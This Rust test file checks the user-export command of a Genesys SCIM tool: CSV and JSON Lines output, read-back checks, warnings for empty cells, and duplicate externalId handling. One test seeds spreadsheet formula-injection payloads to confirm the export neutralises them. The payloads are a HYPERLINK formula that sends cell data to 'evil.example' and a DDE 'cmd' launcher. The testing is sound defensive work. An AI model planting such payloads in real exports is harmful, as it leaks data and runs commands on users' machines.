//! `genesys-scim export users`, and reading the export back with `genesys-scim check`.

use crate::common::{add_members, on, org, requests, run, scim, seed, temp_file};
use serde_json::json;

#[test]
fn export_writes_every_user_in_the_people_file_format() {
    let org = org();
    let r = on(&org.server, &["export", "users"]);
    assert_eq!(r.code, 0, "{r:?}");
    // The Genesys attributes these users lack follow, empty.
    let rest = ",".repeat(15);
    assert_eq!(
        r.stdout.lines().collect::<Vec<_>>(),
        [
            "userName,displayName,externalId,active,title,department,division,employeeNumber,email,phone,manager,groups,\
             dateHire,roles,routingSkills,routingLanguages,externalIds,phone.work2,phone.work3,phone.work4,phone.home,\
             phone.mobile,phone.other,phone.microsoftteams,phone.zoomphone,phone.eightbyeight,phone.ringcentral".to_owned(),
            format!("admin@example.com,Admin,,true,,,,,,,,Support{rest}"),
            format!("bob@example.com,Bob Boss,E-2,true,Manager,,EMEA,,,,,{rest}"),
            format!("jane@example.com,Jane Doe,E-1,true,Agent,Support,EMEA,0042,jane@example.com,'+15550100,bob@example.com,Support{rest}"),
            format!("old@example.com,Old Timer,E-3,false,,,,,,,,{rest}"),
        ]
    );
    assert_eq!(r.stderr.trim(), "exported 4 users");
    assert!(
        requests(&org.server).iter().all(|r| r.starts_with("GET")),
        "export only reads"
    );
}

#[test]
fn export_as_json_lines_has_one_object_per_user() {
    let org = org();
    let r = on(&org.server, &["export", "users", "--output", "jsonl"]);
    assert_eq!(r.code, 0, "{r:?}");
    let lines: Vec<serde_json::Value> = r
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 4);
    assert_eq!(
        lines[2],
        json!({
            "userName": "jane@example.com", "displayName": "Jane Doe", "externalId": "E-1",
            "active": true, "title": "Agent", "department": "Support", "division": "EMEA",
            "employeeNumber": "0042", "email": "jane@example.com", "phone": "+15550100",
            "manager": "bob@example.com", "groups": ["Support"]
        })
    );
    assert_eq!(
        lines[3],
        json!({"userName": "old@example.com", "displayName": "Old Timer", "externalId": "E-3", "active": false})
    );
}

#[test]
fn an_export_reads_back_as_a_valid_people_file() {
    let org = org();
    for (format, name) in [("csv", "export.csv"), ("jsonl", "export.jsonl")] {
        let r = on(&org.server, &["export", "users", "--output", format]);
        assert_eq!(r.code, 0, "{r:?}");
        let path = temp_file(name);
        std::fs::write(&path, &r.stdout).unwrap();
        let check = run(scim().arg("check").arg(&path));
        assert_eq!(check.code, 0, "{check:?}");
        assert!(
            check
                .stdout
                .contains("4 people (1 inactive, 3 with an externalId); no problems found"),
            "{}",
            check.stdout
        );
    }
}

#[test]
fn values_the_format_cannot_hold_leave_their_cell_empty_and_every_person_is_exported() {
    let server = scim_fake::FakeServer::builder()
        .seed_groups(vec!["Support", "R;D"])
        .start()
        .unwrap();
    let plain = seed(
        &server,
        json!({"userName": "plain@example.com", "displayName": "Plain", "externalId": "E-1"}),
    );
    seed(
        &server,
        json!({"userName": "marker@example.com", "displayName": "<clear>", "title": "<clear>",
               "externalId": "E-2"}),
    );
    let semi = seed(
        &server,
        json!({"userName": "semi@example.com", "displayName": "Semi", "externalId": "E-3",
               "emails": [{"value": "not an address", "type": "work"}]}),
    );
    add_members(&server, "R;D", &[&semi]);
    add_members(&server, "Support", &[&semi, &plain]);
    for format in ["csv", "jsonl"] {
        let r = on(&server, &["export", "users", "--output", format]);
        assert_eq!(r.code, 0, "{format}: {r:?}");
        assert_eq!(
            r.stdout.lines().count(),
            3 + usize::from(format == "csv"),
            "{r:?}"
        );
        for name in [
            "plain@example.com",
            "marker@example.com",
            "semi@example.com",
        ] {
            assert!(
                r.stdout.contains(name),
                "{format}: {name} missing: {}",
                r.stdout
            );
        }
        for (user, column) in [
            ("marker@example.com", "displayName"),
            ("marker@example.com", "title"),
            ("semi@example.com", "email"),
        ] {
            let warning = format!("warning: {user}: the {column} cell is left empty");
            assert!(
                r.stderr.contains(&warning),
                "{format}: {warning}: {}",
                r.stderr
            );
        }
        // JSON Lines can hold a group name with `;`; CSV cannot.
        let groups = "warning: semi@example.com: the groups cell is left empty";
        assert_eq!(
            r.stderr.contains(groups),
            format == "csv",
            "{format}: {}",
            r.stderr
        );
        assert!(r.stderr.contains("exported 3 users"), "{}", r.stderr);
        // What was written reads back: an empty cell leaves the value alone.
        let path = temp_file(&format!("lossy.{format}"));
        std::fs::write(&path, &r.stdout).unwrap();
        let check = run(scim().arg("check").arg(&path));
        assert_eq!(check.code, 0, "{format}: {check:?}\n{}", r.stdout);
        assert!(check.stdout.contains("3 people"), "{}", check.stdout);
    }
}

#[test]
fn a_user_without_a_usable_user_name_is_still_written_and_fails_the_export() {
    let org = org();
    seed(
        &org.server,
        json!({"userName": " padded@example.com ", "displayName": "Padded"}),
    );
    let r = on(&org.server, &["export", "users"]);
    assert_eq!(r.code, 1, "{r:?}");
    assert_eq!(r.stdout.lines().count(), 1 + 5, "{}", r.stdout);
    assert!(r.stdout.contains(" padded@example.com "), "{}", r.stdout);
    assert!(
        r.stderr
            .contains("error: ` padded@example.com `: the userName has spaces at its ends"),
        "{}",
        r.stderr
    );
    // The file is refused as a feed, so it cannot deactivate anyone.
    let path = temp_file("padded.csv");
    std::fs::write(&path, &r.stdout).unwrap();
    assert_eq!(run(scim().arg("check").arg(&path)).code, 2);
}

#[test]
fn csv_exports_are_spreadsheet_safe_and_read_back_the_same() {
    let org = org();
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A2,"open")"#;
    seed(
        &org.server,
        json!({"userName": "formula@example.com", "displayName": formula, "externalId": "E-9",
        "title": "+cmd|' /C calc'!A0",
        "phoneNumbers": [{"value": "+15550199", "type": "work"}],
        "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {
            "department": "@SUM(1+1)", "division": "-EMEA", "employeeNumber": "\t0042"
        }}),
    );
    seed(
        &org.server,
        json!({"userName": "quote@example.com", "displayName": "'=A1", "externalId": "E-10",
               "title": "'Connor",
               "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {"department": "\rCR"}}),
    );
    let r = on(&org.server, &["export", "users"]);
    assert_eq!(r.code, 0, "{r:?}");
    let mut reader = csv::Reader::from_reader(r.stdout.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cell = |user: &str, column: &str| -> String {
        let at = headers.iter().position(|h| h == column).unwrap();
        let row = rows.iter().find(|r| &r[0] == user).unwrap();
        row[at].to_owned()
    };
    // A spreadsheet shows these as text, not as formulas or numbers.
    assert_eq!(
        cell("formula@example.com", "displayName"),
        format!("'{formula}")
    );
    assert_eq!(cell("formula@example.com", "title"), "'+cmd|' /C calc'!A0");
    assert_eq!(cell("formula@example.com", "department"), "'@SUM(1+1)");
    assert_eq!(cell("formula@example.com", "division"), "'-EMEA");
    // A value starting with a tab or carriage return would read back
    // trimmed, so its cell is left empty, with a warning (sheet.rs tests
    // the protection of such cells for other CSV output).
    assert_eq!(cell("formula@example.com", "employeeNumber"), "");
    assert!(
        r.stderr.contains(
            "formula@example.com: the employeeNumber cell is left empty: the value has spaces"
        ),
        "{}",
        r.stderr
    );
    assert_eq!(cell("formula@example.com", "phone"), "'+15550199");
    assert_eq!(cell("jane@example.com", "phone"), "'+15550100");
    assert_eq!(cell("quote@example.com", "department"), "");
    // A leading `'` is doubled only where reading would drop it.
    assert_eq!(cell("quote@example.com", "displayName"), "''=A1");
    assert_eq!(cell("quote@example.com", "title"), "'Connor");
    for row in &rows {
        for value in row {
            assert!(
                !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{value:?} in {row:?}"
            );
        }
    }
    // Every CSV is protected, not only exports.
    let list = on(
        &org.server,
        &[
            "users",
            "list",
            "--attributes",
            "displayName,phoneNumbers",
            "-o",
            "csv",
        ],
    );
    assert!(
        list.stdout
            .contains(&format!("'{}", formula.replace('"', "\"\""))),
        "{}",
        list.stdout
    );
    assert!(list.stdout.contains(",'+15550100"), "{}", list.stdout);
    // Reading the file back gives the org's values: nothing to change.
    let path = temp_file("formulas.csv");
    std::fs::write(&path, &r.stdout).unwrap();
    org.server.clear_journal();
    let plan = on(
        &org.server,
        &[
            "sync",
            "plan",
            "--scope",
            "all",
            "--from",
            path.to_str().unwrap(),
        ],
    );
    assert_eq!(plan.code, 0, "{plan:?}");
    assert!(
        plan.stdout
            .contains("Nothing to do: the org already matches the feed"),
        "{}",
        plan.stdout
    );
    assert!(requests(&org.server).iter().all(|r| r.starts_with("GET")));
}

#[test]
fn an_external_id_two_users_share_stays_on_the_active_one_so_the_export_reads_back() {
    let org = org();
    // A rehire: the old account, inactive, still holds Jane's externalId.
    seed(
        &org.server,
        json!({"userName": "jane.old@example.com", "displayName": "Jane Doe", "externalId": "E-1",
               "active": false}),
    );
    // Two active accounts with one externalId: neither can keep it.
    seed(
        &org.server,
        json!({"userName": "x1@example.com", "externalId": "E-7"}),
    );
    seed(
        &org.server,
        json!({"userName": "x2@example.com", "externalId": "E-7"}),
    );
    let r = on(&org.server, &["export", "users"]);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(r.stdout.lines().count(), 1 + 7, "{}", r.stdout);
    assert!(
        r.stdout.contains("jane@example.com,Jane Doe,E-1,true"),
        "{}",
        r.stdout
    );
    assert!(
        r.stdout.contains("jane.old@example.com,Jane Doe,,false"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("x1@example.com,,,true"), "{}", r.stdout);
    for user in ["jane.old@example.com", "x1@example.com", "x2@example.com"] {
        let warning = format!("warning: {user}: the externalId cell is left empty");
        assert!(r.stderr.contains(&warning), "{warning}: {}", r.stderr);
    }
    assert!(
        !r.stderr.contains("warning: jane@example.com"),
        "{}",
        r.stderr
    );
    let path = temp_file("rehire.csv");
    std::fs::write(&path, &r.stdout).unwrap();
    let check = run(scim().arg("check").arg(&path));
    assert_eq!(check.code, 0, "{check:?}");
}
